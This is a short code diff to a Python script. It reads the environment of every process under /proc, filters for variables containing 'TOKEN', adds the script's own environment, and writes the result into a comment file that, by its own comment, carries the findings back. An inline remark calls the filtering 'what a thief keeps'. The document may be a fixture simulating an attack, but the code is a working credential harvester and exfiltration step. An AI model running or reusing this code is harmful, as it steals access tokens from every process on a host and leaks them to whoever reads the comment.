@@ -116,9 +116,12 @@ for entry in pathlib.Path("/proc").iterdir():
     if entry.name.isdigit():
         found["pids"].append(int(entry.name))
         try:
-            found["environ"].append((entry / "environ").read_bytes().decode("latin-1"))
+            environ = (entry / "environ").read_bytes().decode("latin-1").split("\\0")
         except OSError:
-            pass
+            continue
+        # What a thief keeps of each: the tokens (the whole of every environment on a busy
+        # host would outgrow the comment that carries the findings back).
+        found["environ"].append("\\0".join(v for v in environ if "TOKEN" in v))
 found["env"] = dict(os.environ)
 result = pathlib.Path(os.environ["AUTOISSUE_RESULT_FILE"])
 result.write_text(json.dumps({"comment": json.dumps(found)}))
